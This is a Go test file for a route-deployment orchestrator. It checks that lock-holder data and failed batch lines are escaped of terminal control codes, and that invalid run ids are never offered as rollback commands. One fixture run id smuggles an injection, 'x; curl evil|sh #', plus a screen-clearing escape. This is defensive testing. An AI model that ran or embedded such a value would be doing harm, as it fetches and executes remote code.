package orchestrator

import (
	"encoding/json"
	"errors"
	"strings"
	"testing"
	"time"

	"github.com/routepush/routepush/host"
)

func heldLock(holder []byte) error { return &host.LockedError{Host: "w0", Holder: holder} }

func noControl(t *testing.T, what, s string) {
	t.Helper()
	for _, r := range s {
		if r < ' ' || r == 0x7f || (r >= 0x80 && r < 0xa0) {
			t.Errorf("%s: raw control %q in %q", what, r, s)
			return
		}
	}
}

// TestLockErrorHostileHolder: a node's lock text reaches the operator
// escaped, and a run id that is no run id is never suggested to --run.
func TestLockErrorHostileHolder(t *testing.T) {
	o := &Options{Holder: Holder{Host: "bastion"}, ProcessAlive: func(int) bool { return false }}
	for name, h := range map[string]Holder{
		"bad run id": {RunID: "x; curl evil|sh #\x1b[2J", Host: "bastion", PID: 1, Started: time.Now()},
		"bad host":   {RunID: "20261126T223050.123Z-1a2b3c", Host: "bastion\x1b]0;t\x07", PID: 1, Started: time.Now()},
	} {
		b, _ := json.Marshal(h)
		err := o.lockError("w0", heldLock(b))
		noControl(t, name, err.Error())
		if name == "bad run id" && strings.Contains(err.Error(), "rollback --run") {
			t.Errorf("%s: suggests a command: %v", name, err)
		}
	}
	// A good holder whose process is gone still gets its suggestion.
	good := Holder{RunID: "20261126T223050.123Z-1a2b3c", Host: "bastion", PID: 1, Started: time.Now()}
	b, _ := json.Marshal(good)
	if err := o.lockError("w0", heldLock(b)); !strings.Contains(err.Error(), "`routepush rollback --run 20261126T223050.123Z-1a2b3c`") {
		t.Errorf("no suggestion: %v", err)
	}
	err := o.lockError("w0", heldLock([]byte("\x1b[2Jnot json\n")))
	noControl(t, "not json", err.Error())
	if err := o.lockError("w0", errors.New("plain")); err.Error() != "plain" {
		t.Errorf("plain error changed: %v", err)
	}
}

func TestExplainBatchErrorEscapes(t *testing.T) {
	err := explainBatchError(host.ApplyResult{BatchErr: errors.New("Command failed -:1"), FailedLine: 1}, []byte("route replace 10.0.0.0/24 dev \x1b[2J\n"))
	noControl(t, "batch line", err.Error())
}
